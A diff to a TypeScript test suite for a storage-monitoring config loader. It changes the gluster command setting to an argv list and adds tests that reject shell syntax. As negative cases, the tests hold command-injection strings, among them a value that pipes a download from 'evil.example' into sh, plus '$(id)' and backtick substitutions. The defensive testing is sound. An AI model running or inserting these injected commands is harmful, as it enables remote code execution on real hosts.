@@ -22,7 +22,7 @@ storage:
         username: 'root',
         privateKeyFile: join(homedir(), '.ssh/id_ed25519'),
         knownHostsFile: '/etc/fleetscope/keys/known_hosts',
-        command: 'gluster',
+        command: ['gluster'],
         connectTimeoutSeconds: 10,
       },
     });
@@ -37,7 +37,7 @@ storage:
   - { id: a, name: A, gluster: { local: { command: gluster } } }
   - { id: b, name: B, gluster: { local: { command: ./bin/fake-gluster } }, healIntervalSeconds: 300, expectedVolumes: [bbshared] }
 `);
-    expect(config.storage.map((s) => s.gluster)).toEqual([{ local: { command: 'gluster' } }, { local: { command: '/etc/fleetscope/bin/fake-gluster' } }]);
+    expect(config.storage.map((s) => s.gluster)).toEqual([{ local: { command: ['gluster'] } }, { local: { command: ['/etc/fleetscope/bin/fake-gluster'] } }]);
     expect(config.storage[1]).toMatchObject({ healIntervalSeconds: 300, expectedVolumes: ['bbshared'] });
   });
 
@@ -66,12 +66,40 @@ storage:
     };
     expect(bad('storage: [{ id: a, name: A, gluster: {} }]')).toMatch(/gluster needs exactly one of/);
     expect(bad('storage: [{ id: a, name: A, gluster: { ssh: { host: h, username: u, privateKeyFile: /k } } }]')).toMatch(/gluster/);
-    expect(bad('storage: [{ id: a, name: A, gluster: { local: { command: g } } }, { id: a, name: B, gluster: { local: { command: g } } }]')).toMatch(
-      /duplicate storage id "a"/,
-    );
     expect(
-      bad('storage: [{ id: a, name: A, gluster: { local: { command: g } }, thresholds: { capacityWarningPercent: 95, capacityCriticalPercent: 90 } }]'),
+      bad('storage: [{ id: a, name: A, gluster: { local: { command: gluster } } }, { id: a, name: B, gluster: { local: { command: gluster } } }]'),
+    ).toMatch(/duplicate storage id "a"/);
+    expect(
+      bad('storage: [{ id: a, name: A, gluster: { local: { command: gluster } }, thresholds: { capacityWarningPercent: 95, capacityCriticalPercent: 90 } }]'),
     ).toMatch(/capacityCriticalPercent must be at least/);
-    expect(bad('storage: [{ id: a, name: A, gluster: { local: { command: g } }, healIntervalSeconds: 1 }]')).toMatch(/healIntervalSeconds/);
+    expect(bad('storage: [{ id: a, name: A, gluster: { local: { command: gluster } }, healIntervalSeconds: 1 }]')).toMatch(/healIntervalSeconds/);
+  });
+
+  it('takes the gluster command as an argv of one allowed shape, never shell syntax (finding 2)', () => {
+    const cmd = (c: string) => load(`storage: [{ id: a, name: A, gluster: { local: { command: ${c} } } }]`);
+    const ssh = (c: string) =>
+      load(`storage: [{ id: a, name: A, gluster: { ssh: { host: h, username: u, privateKeyFile: /k, knownHostsFile: /kh, command: ${c} } } }]`);
+    expect(cmd('"sudo -n gluster"').config.storage[0]!.gluster).toEqual({ local: { command: ['sudo', '-n', 'gluster'] } });
+    expect(cmd('[/usr/sbin/gluster, --remote-host=gl1.example.com]').config.storage[0]!.gluster).toEqual({
+      local: { command: ['/usr/sbin/gluster', '--remote-host=gl1.example.com'] },
+    });
+    const refused = (f: () => unknown): string => {
+      try {
+        f();
+      } catch (e) {
+        expect(e).toBeInstanceOf(ConfigError);
+        return (e as Error).message;
+      }
+      throw new Error('accepted');
+    };
+    expect(refused(() => cmd('/usr/bin/id'))).toMatch(/the program must be gluster/);
+    expect(refused(() => cmd('[sh, -c, gluster]'))).toMatch(/the program must be gluster/);
+    expect(refused(() => cmd('"gluster; curl evil.example | sh"'))).toMatch(/characters a shell would interpret/);
+    expect(refused(() => ssh('"gluster $(id)"'))).toMatch(/characters a shell would interpret/);
+    expect(refused(() => ssh('"gluster `id`"'))).toMatch(/characters a shell would interpret/);
+    expect(refused(() => ssh('["gluster", "volume info"]'))).toMatch(/characters a shell would interpret/);
+    expect(refused(() => ssh('"sudo -u root gluster"'))).toMatch(/sudo takes only -n/);
+    expect(refused(() => ssh('"gluster volume"'))).toMatch(/only --option/);
+    expect(refused(() => ssh('"gluster --x=a&b"'))).toMatch(/characters a shell would interpret/);
   });
 });
